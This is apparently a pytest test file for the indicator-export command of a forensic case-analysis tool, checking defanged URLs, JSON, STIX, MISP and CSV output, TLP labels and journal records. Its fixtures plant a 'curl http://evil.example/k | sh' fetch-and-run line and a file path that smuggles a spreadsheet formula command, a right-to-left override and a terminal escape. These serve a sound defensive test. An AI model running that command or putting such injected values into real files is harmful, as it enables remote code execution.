from __future__ import annotations

import csv
import hashlib
import io
import json
from dataclasses import replace

import pytest

from logged import file
from pratique.case.folder import read
from pratique.case.journal import journal_of, verified
from pratique.record.act import Act
from pratique.story.verdict import FileVerdict

EVIL = "/srv/=cmd|' /C calc'!A0\u202e\x1b[2J"
SHA = "ab" * 32


@pytest.fixture
def case(sample, stored, put):
    answer = sample.compromised(3)
    first = replace(answer.findings[0], evidence="e1", check="persistence-cron-fetches-code",
                    quote="curl http://evil.example/k | sh", confidence=0.9)  # fmt: skip
    folder = stored(replace(answer, findings=(first, *answer.findings[1:])))
    put(
        file(EVIL, "2026-11-03 02:20:00", sha256=SHA),
        FileVerdict(EVIL, "malicious", 0.9, (first.id,), SHA, 100, ""),
    )
    return folder


def test_without_a_format_they_are_listed(case, typed):
    said = typed("export", "--case", case)
    assert said.status == 0
    assert said.harmless
    assert "evil[.]example" in said.out
    assert "http://evil" not in said.out
    assert SHA in said.out


def test_json_is_one_object_a_line(case, typed):
    rows = typed("export", "--case", case, "--json").rows
    [url] = [row for row in rows if row["kind"] == "url"]
    assert url["value"] == "http://evil.example/k"
    assert url["rules"] == ["code-leads-there"]
    assert {row["tlp"] for row in rows} == {"amber"}


@pytest.mark.parametrize("form", ["stix", "misp", "case"])
def test_a_document_is_printed(case, typed, form):
    said = typed("export", "--case", case, "--format", form)
    assert (said.status, said.harmless) == (0, True)
    assert json.loads(said.out)


def test_csv_is_for_people_and_exact_for_machines(case, typed):
    people = typed("export", "--case", case, "--format", "csv")
    machine = typed("export", "--case", case, "--format", "csv", "--exact")
    assert "http://evil.example/k" not in people.out
    assert "http://evil.example/k" in machine.out
    for said in (people, machine):
        for row in csv.reader(io.StringIO(said.out)):
            assert not any(cell.startswith("=") for cell in row)


def test_a_file_is_written_and_the_journal_knows_it_again(case, typed, here):
    target = here / "out.json"
    said = typed("export", "--case", case, "--format", "stix", "-o", target, "--redacted",
                 "--tlp", "green", "--json")  # fmt: skip
    assert said.status == 0
    [row] = said.rows
    assert row["sha256"] == hashlib.sha256(target.read_bytes()).hexdigest()
    assert (row["redacted"], row["tlp"], row["format"]) == (True, "green", "stix")
    [entry] = [e for e in journal_of(read(case)).entries() if e.act is Act.EXPORTED]
    assert entry.about["sha256"] == row["sha256"]
    assert entry.about["file"] == "out.json"
    assert "without names" in entry.told.english
    assert not verified(read(case)).problems


def test_two_exports_are_equal(case, typed):
    first = typed("export", "--case", case, "--format", "stix").out
    assert typed("export", "--case", case, "--format", "stix").out == first


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["-o", "x.json"], "No format"),
        (["--exact"], "--exact is for"),
        (["--format", "stix", "--exact"], "--exact is for"),
        (["--format", "pdf"], "pdf"),
        (["--tlp", "white"], "white"),
        (["--format", "csv", "-o", "/nowhere/x.csv"], "cannot be written"),
    ],
)
def test_what_cannot_be_done(case, typed, arguments, words):
    said = typed("export", "--case", case, *arguments)
    assert said.status == 2
    assert words in said.err


def test_nothing_is_written_into_the_evidence(case, typed, tmp_path):
    said = typed("export", "--case", case, "--format", "csv", "-o", tmp_path / "suspect" / "x")
    assert said.status == 2
    assert list((tmp_path / "suspect").iterdir()) == []


def test_no_case_no_export(typed):
    assert typed("export").status == 5


def test_where_nothing_was_found_it_says_so(sample, stored, typed):
    said = typed("export", "--case", stored(sample.nothing_found()))
    assert "No indicator was found in what was read." in said.out
